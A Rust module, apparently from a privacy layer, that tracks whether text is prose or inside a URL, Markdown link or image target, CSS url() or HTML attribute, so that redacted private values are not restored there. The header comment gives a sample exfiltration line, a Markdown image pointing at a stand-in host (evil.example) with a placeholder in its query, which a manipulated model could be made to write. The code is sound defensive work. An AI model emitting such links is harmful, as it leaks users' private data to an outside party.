//! Where in a text are we: in prose, or in an address that somebody else may receive?
//!
//! Whoever can make a model write `![](https://evil.example/?q=<PERSON_…>)` would receive the
//! original as soon as the answer is shown. So nothing is restored in
//!
//! * a URL: from `scheme://`, `www.` or `host.tld/` to white space, `<`, or the closing counterpart
//!   of a quote or bracket right before it;
//! * the target of a Markdown link or image, of a reference definition, and of CSS `url(…)`;
//! * the value of an HTML attribute.
//!
//! Reads every byte once and remembers a few; when in doubt, it is an address. What it does not
//! know: addresses that take shape only after the text was restored, such as a value before
//! `.evil.example`, and a host without a dot and without `//`.

/// What is known from the text so far.
#[derive(Default)]
pub(crate) struct Surroundings {
    place: Place,
    /// The last eight bytes, the latest in the lowest place, ASCII letters in lower case.
    recent: u64,
    host: Host,
}

#[derive(Clone, Copy, Default, PartialEq, Eq)]
enum Place {
    #[default]
    Prose,
    /// Up to white space or to this character.
    Url {
        closer: Option<char>,
    },
    /// In the parentheses of a link, so many of them within.
    Target {
        depth: u16,
        is_escaped: bool,
        angle: Angle,
    },
    /// After `]:`, before what the definition points to.
    Definition,
    Tag(Tag),
}

/// Whether a link's target is written `<…>`, where parentheses count for nothing.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Angle {
    Undecided,
    Inside,
    No,
}

/// Where in an HTML tag, as a browser would see it.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Tag {
    Attributes,
    AfterEquals,
    Unquoted,
    Quoted(char),
}

/// The run of letters, digits, dots and hyphens that we are in.
#[derive(Clone, Copy, Default)]
struct Host {
    /// What would close a URL that begins with this run.
    closer: Option<char>,
    is_begun: bool,
    dots: u8,
    /// Letters and other characters since the last dot.
    letters: u8,
    others: u8,
    has_letters: bool,
    has_port: bool,
    /// After `<` and a letter: perhaps the name of a tag.
    is_tag: bool,
}

impl Surroundings {
    /// Whether an original that came next would become part of an address.
    pub(crate) fn are_an_address(&self) -> bool {
        match self.place {
            Place::Prose | Place::Definition | Place::Tag(Tag::Attributes) => false,
            Place::Url { .. } | Place::Target { .. } | Place::Tag(_) => true,
        }
    }

    /// A placeholder comes next, restored or not; nothing in it opens or closes anything.
    pub(crate) fn pass_over(&mut self) {
        match self.place {
            Place::Tag(Tag::AfterEquals) => self.place = Place::Tag(Tag::Unquoted),
            Place::Definition => self.place = Place::Prose,
            _ => {}
        }
        self.recent = 0;
        self.host = Host::default();
    }

    /// Reads on.
    pub(crate) fn read(&mut self, text: &str) {
        let mut rest = text;
        while !rest.is_empty() {
            let read = match self.place {
                Place::Prose => self.read_prose(rest),
                _ => self.read_char(rest),
            };
            rest = &rest[read..];
        }
    }

    /// Reads prose up to what ends it; a character beyond ASCII ends a host and nothing else.
    fn read_prose(&mut self, text: &str) -> usize {
        for (at, byte) in text.bytes().enumerate() {
            let next = self.prose_byte(byte);
            self.recent = self.recent << 8 | u64::from(byte.to_ascii_lowercase());
            if next != Place::Prose {
                self.place = next;
                self.host = Host::default();
                return at + 1;
            }
        }
        text.len()
    }

    fn prose_byte(&mut self, byte: u8) -> Place {
        match byte {
            b'(' if self.follows(b"]") || self.follows(b"url") => {
                return Place::Target {
                    depth: 0,
                    is_escaped: false,
                    angle: Angle::Undecided,
                };
            }
            b':' if self.follows(b"]") => return Place::Definition,
            b'/' if self.follows(b":/") => {
                return Place::Url {
                    closer: self.host.closer,
                };
            }
            b'/' | b'?' | b'#' | b'\\' if self.host.is_domain() => {
                return Place::Url {
                    closer: self.host.closer,
                };
            }
            b'.' if self.follows(b"www") && self.host.letters == 3 && self.host.dots == 0 => {
                return Place::Url {
                    closer: self.host.closer,
                };
            }
            b'/' | b' ' | b'\t' | b'\n' | b'\r' | b'\x0c' if self.host.is_tag => {
                return Place::Tag(Tag::Attributes);
            }
            _ => {}
        }
        if !self.host.read(byte, self.recent) {
            self.host = Host::default();
        }
        Place::Prose
    }

    fn follows(&self, expected: &[u8]) -> bool {
        expected
            .iter()
            .rev()
            .enumerate()
            .all(|(i, &byte)| (self.recent >> (8 * i)) as u8 == byte)
    }

    /// Reads one character in any place but prose.
    fn read_char(&mut self, text: &str) -> usize {
        let c = text.chars().next().expect("the text is not empty");
        let (next, is_read) = match self.place {
            Place::Prose => (Place::Prose, false),
            Place::Url { closer } => in_url(c, closer),
            Place::Target {
                depth,
                is_escaped,
                angle,
            } => (self.in_target(c, depth, is_escaped, angle), true),
            Place::Definition => in_definition(c),
            Place::Tag(tag) => (in_tag(c, tag), true),
        };
        self.place = next;
        if !is_read {
            return 0;
        }
        let byte = u8::try_from(c).unwrap_or_default();
        self.recent = self.recent << 8 | u64::from(byte.to_ascii_lowercase());
        c.len_utf8()
    }

    /// A link ends with its parenthesis, and no link goes beyond its paragraph.
    fn in_target(&self, c: char, depth: u16, is_escaped: bool, angle: Angle) -> Place {
        let stay = |depth, angle| Place::Target {
            depth,
            is_escaped: false,
            angle,
        };
        match (c, angle) {
            _ if is_escaped => stay(depth, angle),
            ('\\', _) => Place::Target {
                depth,
                is_escaped: true,
                angle,
            },
            ('\n', _) if self.follows(b"\n") => Place::Prose,
            ('<', Angle::Undecided) => stay(depth, Angle::Inside),
            ('>' | '\n', Angle::Inside) => stay(depth, Angle::No),
            (_, Angle::Inside) => stay(depth, angle),
            ('(', _) => stay(depth.saturating_add(1), Angle::No),
            (')', _) if depth == 0 => Place::Prose,
            (')', _) => stay(depth - 1, Angle::No),
            (c, Angle::Undecided) if c.is_whitespace() => stay(depth, angle),
            _ => stay(depth, Angle::No),
        }
    }
}

fn in_url(c: char, closer: Option<char>) -> (Place, bool) {
    if c == '<' || c.is_whitespace() || Some(c) == closer {
        (Place::Prose, false)
    } else {
        (Place::Url { closer }, true)
    }
}

/// Only a target with a host of its own leads outside.
fn in_definition(c: char) -> (Place, bool) {
    match c {
        '/' | '\\' => (Place::Url { closer: None }, true),
        '<' | ' ' | '\t' | '\n' | '\r' => (Place::Definition, true),
        _ => (Place::Prose, false),
    }
}

fn in_tag(c: char, tag: Tag) -> Place {
    Place::Tag(match (tag, c) {
        (Tag::Quoted(quote), c) if c == quote => Tag::Attributes,
        (Tag::Quoted(_), _) => tag,
        (_, '>') => return Place::Prose,
        (Tag::Attributes, '=') => Tag::AfterEquals,
        (Tag::AfterEquals, '"' | '\'') => Tag::Quoted(c),
        (Tag::Unquoted, c) if c.is_ascii_whitespace() => Tag::Attributes,
        (Tag::AfterEquals, c) if !c.is_ascii_whitespace() => Tag::Unquoted,
        _ => tag,
    })
}

impl Host {
    /// Takes one more byte; `false` if the run ends with it.
    fn read(&mut self, byte: u8, recent: u64) -> bool {
        if !byte.is_ascii_alphanumeric() && !matches!(byte, b'.' | b'-' | b'+' | b'_' | b':') {
            return false;
        }
        if byte == b':' {
            // Before a port, or the end of a scheme: `://` is seen by itself.
            let keeps = self.is_begun;
            self.has_port = self.is_domain();
            self.is_tag = false;
            return keeps;
        }
        if !self.is_begun {
            *self = Self {
                closer: closer(recent),
                is_begun: true,
                ..Self::default()
            };
            self.is_tag = recent as u8 == b'<' && byte.is_ascii_alphabetic();
        }
        match byte {
            b'.' => {
                self.dots = self.dots.saturating_add(1);
                (self.letters, self.others) = (0, 0);
            }
            _ if self.has_port => {}
            _ if byte.is_ascii_alphabetic() => {
                self.letters = self.letters.saturating_add(1);
                self.has_letters = true;
            }
            _ => self.others = self.others.saturating_add(1),
        }
        self.is_tag &= byte.is_ascii_alphanumeric() || byte == b'-';
        true
    }

    /// Whether the run ends in a top-level domain, or is an IPv4 address.
    fn is_domain(&self) -> bool {
        let is_name = self.dots >= 1 && self.letters >= 2 && self.others == 0;
        let is_ipv4 = self.dots == 3 && self.others >= 1 && !self.has_letters;
        self.has_port || is_name || is_ipv4
    }
}

/// What closes a URL that begins right after these bytes.
fn closer(recent: u64) -> Option<char> {
    Some(match recent as u8 {
        quote @ (b'"' | b'\'' | b'`') => char::from(quote),
        b'(' => ')',
        b'[' => ']',
        b'<' => '>',
        _ => match recent & 0xff_ffff {
            0xe3_80_8c => '」',
            0xe3_80_8e => '』',
            0xe3_80_90 => '】',
            0xe3_80_88 => '〉',
            0xef_bc_88 => '）',
            _ => return None,
        },
    })
}
